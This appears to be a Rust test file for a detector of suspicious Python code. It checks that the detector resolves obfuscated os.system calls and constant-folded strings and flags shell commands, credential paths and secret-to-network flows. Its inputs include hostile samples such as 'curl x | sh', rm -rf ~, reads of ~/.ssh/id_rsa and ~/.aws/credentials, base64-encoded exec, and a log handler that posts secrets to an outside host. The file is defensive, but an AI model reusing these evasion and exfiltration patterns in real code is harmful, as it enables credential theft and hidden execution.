use proptest::prelude::*;

use super::*;

fn parsed(source: &str) -> Parsed {
    parse("pkg/mod.py", source)
}

/// Facts as `kind name value`, without imports.
fn facts(source: &str) -> Vec<String> {
    let parsed = parsed(source);
    assert!(matches!(parsed.treatment, Treatment::Parsed(_)), "{:?}", parsed.facts);
    let facts = parsed.facts.iter().filter(|fact| fact.kind != FactKind::Import);
    facts.map(|fact| format!("{:?} {} {}", fact.kind, fact.name, fact.value).trim().to_owned()).collect()
}

/// Names of calls.
fn calls(source: &str) -> Vec<String> {
    let parsed = parsed(source);
    let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
    calls.map(|fact| format!("{} {}", fact.name, fact.value).trim().to_owned()).collect()
}

#[test]
fn names_through_imports_and_aliases() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import system as s\nt = s\nt('id')",
        "__import__('os').system('id')",
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nglobals()['o' + 's'].system('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import builtins\nbuiltins.__import__('os').system('id')",
        "__builtins__.__dict__['__import__']('os').system('id')",
        "import os\nf = [os.system, print]\nf[0]('id')",
        "import os\nd = {'run': os.system}\nd['run']('id')",
        "import os\nclass A:\n    run = os.system\nA.run('id')",
        "import os\nclass A:\n    def __init__(self):\n        self.go = os.system\n    def x(self):\n        self.go('id')",
        "import os\ndef f(run=os.system):\n    run('id')",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "from os import *\nsystem('id')",
        "import posix\nposix.system('id')",
        "import os\nx = os\nx.y = 1\ny = x\ny.system('id')",
        "import os\n(lambda m: m.system('id'))(os)",
        "import os\ns = getattr(os, ''.join(['sys', 'tem']))\ns('id')",
        "import os\ns = getattr(os, 'metsys'[::-1])\ns('id')",
    ] {
        let got = calls(source);
        assert!(got.iter().any(|call| call.starts_with("os.system")), "{source}\n{got:?}");
    }
}

#[test]
fn constants_fold() {
    for expression in [
        "'o' + 's.x'",
        "'%s.%s' % ('os', 'x')",
        "'{}.{}'.format('os', 'x')",
        "'{a}.{b}'.format(a='os', b='x')",
        "f\"{'os'}.x\"",
        "''.join(['o', 's', '.', 'x'])",
        "'x.so'[::-1]",
        "chr(111) + chr(115) + '.x'",
        "''.join(chr(c) for c in [111, 115, 46, 120])",
        "''.join(map(chr, (111, 115, 46, 120)))",
        "bytes([111, 115, 46, 120]).decode()",
        "bytes.fromhex('6f732e78').decode('utf-8')",
        "__import__('base64').b64decode('b3MueA==').decode()",
        "__import__('codecs').decode('bf.k', 'rot13')",
        "'pt/y'.translate({112: 'o', 116: 's', 47: '.', 121: 'x'})",
        "''.join(chr(ord(c) ^ 1) for c in 'nr/y')",
        "bytes(b ^ 1 for b in b'nr/y').decode()",
        "bytes([b ^ k for b, k in zip(b'nr/y', [1, 1, 1, 1])]).decode()",
        "(lambda s: s[::-1])('x.so')",
        "{'a': 'os.x'}['a']",
        "['a', 'os.x'][1]",
        "'OS.X'.lower()",
        "'os-x'.replace('-', '.')",
        "'os' '.x'",
        "'os.x' if True else ''",
        "'a.os.x'.split('.', 1)[1]",
        "b'os.x'.decode()",
        "str(b'os.x', 'utf-8')",
        "'\\x6f\\x73.x'",
    ] {
        let source = format!("import importlib\nimportlib.import_module({expression})\n");
        let parsed = parse("a.py", &source);
        let found = parsed.facts.iter().any(|fact| fact.kind == FactKind::Import && fact.name == "os.x");
        assert!(found, "{source}\n{:?}", parsed.facts);
    }
}

#[test]
fn functions_that_decode() {
    let source = "import base64\ndef plain(text):\n    raw = base64.b64decode(text[::-1])\n    return raw.decode()\n\
                  exec(plain('=kyJnlGJo0WZ0NXez5ycvtzcvBCdy9GctlmJ'[::1]))\nimport os\n\
                  s = ''\ns += 'i'\ns += 'd'\nos.system(s)\n";
    assert!(facts(source).contains(&"Literal command id".to_owned()), "{:?}", facts(source));
}

#[test]
fn code_in_strings_is_a_layer() {
    let source = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n";
    let parsed = parsed(source);
    let inner = parsed.facts.iter().find(|fact| fact.name == "os.system").unwrap();
    assert_eq!((inner.context.layer, inner.span.line, inner.context.top_level), (1, 2, true));
    assert!(
        calls("eval(compile('__import__(\"os\").system(\"id\")', '', 'eval'))")
            .contains(&"os.system id".to_owned())
    );
}

#[test]
fn commands_in_their_many_forms() {
    for (source, line) in [
        ("import subprocess\nsubprocess.run(['curl', '-s', url])", "curl -s ?"),
        ("import subprocess as s\ns.Popen('id -u', shell=True)", "id -u"),
        ("import subprocess\nsubprocess.check_output(args=['id', '-u'])", "id -u"),
        (
            "import subprocess\ncmd = ['bash', '-c'] + ['curl x | sh']\nsubprocess.call(cmd)",
            "bash -c 'curl x | sh'",
        ),
        ("import os\nos.execvp('sh', ['sh', '-c', 'id'])", "sh -c id"),
        ("import os\nos.popen('cat %s' % name)", "cat ?"),
        ("import os\nos.system(f'rm -rf {os.path.expanduser(\"~\")}')", "rm -rf ~"),
        ("import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('id', '-u')", "id -u"),
    ] {
        let got = facts(source);
        assert!(got.contains(&format!("Literal command {line}")), "{source}\n{got:?}");
    }
}

#[test]
fn paths_and_modes() {
    for (source, fact) in [
        ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "Literal path ~/.ssh/id_rsa"),
        (
            "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))",
            "Literal path ~/.ssh/id_rsa",
        ),
        (
            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
            "Literal path ~/.aws/credentials",
        ),
        ("import os\nopen(os.environ['HOME'] + '/.netrc')", "Literal path ~/.netrc"),
        ("x = f'https://{host}/collect'", "Literal url https://?/collect"),
    ] {
        let got = facts(source);
        assert!(got.contains(&fact.to_owned()), "{source}\n{got:?}");
    }
    let kinds = |source: &str| parsed(source).facts.iter().find_map(|fact| fact.capability).unwrap();
    assert_eq!(kinds("open('x')"), crate::model::CapabilityKind::FsRead);
    assert_eq!(kinds("open('x', 'wb')"), crate::model::CapabilityKind::FsWrite);
    assert_eq!(
        kinds("from pathlib import Path\nPath('x').write_text('y')"),
        crate::model::CapabilityKind::FsWrite
    );
}

#[test]
fn what_runs_on_import() {
    let top = |source: &str| {
        parsed(source).facts.iter().find(|fact| fact.name == "os.system").unwrap().context.top_level
    };
    assert!(top("import os\nos.system('id')"));
    assert!(top("import os\ndef f():\n    os.system('id')\nf()"));
    assert!(top("import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()"));
    assert!(!top("import os\ndef f():\n    os.system('id')"));
    assert!(!top("import os\nif __name__ == '__main__':\n    os.system('id')"));
}

#[test]
fn files_of_the_package() {
    let parsed = parse("src/pkg/sub/a.py", "from . import b\nfrom ..c import d\nimport pkg.e.f\nimport os\n");
    for file in ["src/pkg/sub/b", "src/pkg/c", "src/pkg/e/f", "src/pkg/e"] {
        assert!(parsed.local.iter().any(|local| local == file), "{file} {:?}", parsed.local);
    }
}

#[test]
fn what_cannot_be_parsed_is_said_and_still_looked_at() {
    let parsed = parsed("import os\nos.system('id')\ndef (:\n");
    assert_eq!(parsed.treatment, Treatment::Text);
    assert!(
        parsed
            .facts
            .iter()
            .any(|fact| fact.kind == FactKind::File && fact.name == "unparsed" && fact.span.line == 3)
    );
    assert!(parsed.facts.iter().any(|fact| fact.name == "os.system"));
    let old = super::parse("a.py", "import os\nprint 'x'\nexec 'import socket'\nos.system('id')\n");
    assert_eq!(old.treatment, Treatment::Parsed("py2".to_owned()));
    assert!(old.facts.iter().any(|fact| fact.name == "socket"));
    let deep = super::parse("a.py", &format!("x = {}{}", "(".repeat(5_000), ")".repeat(5_000)));
    assert!(deep.facts.iter().any(|fact| fact.name == "too-deep"));
}

/// What is as deep as it may be is parsed on a stack that is large enough.
#[test]
fn the_deepest_that_is_parsed() {
    let mut blocks = String::new();
    for level in 0..95 {
        blocks.push_str(&format!("{}if x:\n", " ".repeat(level)));
    }
    blocks.push_str(&format!("{}pass\n", " ".repeat(95)));
    for source in [
        format!("x = {}1{}\n", "(".repeat(195), ")".repeat(195)),
        format!("x = {}1{}\n", "[".repeat(195), "]".repeat(195)),
        format!("x = 'a'{}\n", " + 'b'".repeat(2_900)),
        format!("x = y{}\n", ".z".repeat(2_900)),
        format!("x = y{}\n", "[0]".repeat(2_900)),
        format!("x = {}y\n", "not ".repeat(2_900)),
        format!("x = {}y\n", "a if b else ".repeat(1_400)),
        format!("x = {}y\n", "lambda: ".repeat(1_400)),
        blocks,
    ] {
        let got = parse("a.py", &source);
        assert!(matches!(got.treatment, Treatment::Parsed(_)), "{} {:?}", &source[..20], got.facts);
    }
}

proptest! {
    #[test]
    fn no_text_panics(text in "\\PC{0,200}") {
        parse("a.py", &text);
    }

    #[test]
    fn no_python_panics(words in proptest::collection::vec(
        prop_oneof![
            Just("import os\n"), Just("def f(a, *b, c=1, **d):\n"), Just("  return "), Just("class A(B):\n"), Just("  x = self.y\n"),
            Just("x"), Just("= "), Just("+ "), Just("("), Just(")"), Just("["), Just("]"), Just("{"), Just("}"), Just(", "), Just(":"),
            Just("'a%s{}'"), Just("b'\\xff'"), Just("f'{x!r:>{y}}'"), Just("\n"), Just("  "), Just("lambda q: "), Just("for i in "),
            Just("exec("), Just("getattr(os, "), Just("x[::-1]"), Just(".join("), Just(".format("), Just("print 'x'\n"), Just("`"),
            Just("match x:\n  case [a, *b]:\n    "), Just("with open(x) as y, z as (a, b):\n"), Just("global x\n"), Just("x += x\n"),
            Just("chr(999999999999)"), Just("range(10**9)"), Just("'a' * 99999999"), Just("-9223372036854775808"), Just("yield x\n"),
        ], 0..40)) {
        let text: String = words.concat();
        parse("pkg/a.py", &text);
    }
}

#[test]
fn records_of_a_log_and_what_is_put_into_them() {
    let text = r"
import logging, os, requests
log = logging.getLogger(__name__)

class Keep(logging.Handler):
    def emit(self, record):
        requests.post('https://logs.invalid/v1', json={'m': record.getMessage()})

def connect():
    token = os.environ['STORE_TOKEN']
    log.debug('connect', extra={'store': token})
";
    let flows: Vec<String> = parse("pkg/log.py", text)
        .facts
        .into_iter()
        .filter(|fact| fact.kind == FactKind::Flow)
        .map(|fact| fact.name)
        .collect();
    assert_eq!(flows, ["fixed-host->net", "log->net", "env-secret->log"]);
}
